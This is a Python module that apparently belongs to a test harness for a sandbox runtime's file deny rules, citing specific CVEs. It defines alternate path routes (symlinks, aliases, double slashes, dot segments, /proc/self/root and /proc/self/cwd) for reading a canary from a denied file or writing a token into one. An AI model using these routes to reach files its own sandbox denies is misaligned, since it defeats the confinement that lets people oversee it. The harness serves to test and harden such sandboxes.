"""Reach a file that the policy denies, by another name for it.

The plain name is tried first: where it already opens, no rule is in force, and another name
bypasses nothing. The harness tells no plain name when it runs this unconfined, where nothing is
denied, and in the row whose route is the plain name itself.
Source: CVE-2026-25724, anthropic-experimental/sandbox-runtime (read-side rules), CVE-2025-59944 (case).
"""

import os

ROUTES = {
    "plain": lambda target: target.path,
    "link": lambda target: target.link,
    "folder-link": lambda target: os.path.join(target.folder_link, os.path.basename(target.path)),
    "alias": lambda target: target.alias,
    "double-slash": lambda target: "/" + target.path.replace("/", "//"),
    "dots": lambda target: os.path.join(
        os.path.dirname(target.path), ".", "..", os.path.basename(os.path.dirname(target.path)),
        os.path.basename(target.path)),
    "proc-root": lambda target: "/proc/self/root" + target.path,
    "proc-cwd": lambda target: "/proc/self/cwd/" + os.path.relpath(target.path, os.getcwd()),
}  # fmt: skip


def allowed(path, flags):
    """Whether the file opens by that name, and for a read, has anything in it."""
    try:
        descriptor = os.open(path, flags)
    except OSError:
        return False
    try:
        return flags == os.O_WRONLY or bool(os.read(descriptor, 1))
    finally:
        os.close(descriptor)


def attempt(target):
    """Open by the row's route, and read the canary or leave the token."""
    flags = os.O_RDONLY if target.act == "read" else os.O_WRONLY
    target.step("plain")
    if target.plain and allowed(target.plain, flags):
        raise NotImplementedError("the deny rule is not in force: the plain name opens")
    where = ROUTES[target.route](target)
    target.step("open")
    descriptor = os.open(where, flags)
    target.step(target.act)
    if target.act == "read":
        found = os.read(descriptor, 4096)
        return found or target.absent("the file at that path is empty")
    os.write(descriptor, target.token.encode())
    os.close(descriptor)
    with open(where) as file:
        found = file.read(4096)
    return target.inside("the token is in that file here") if target.token in found else found
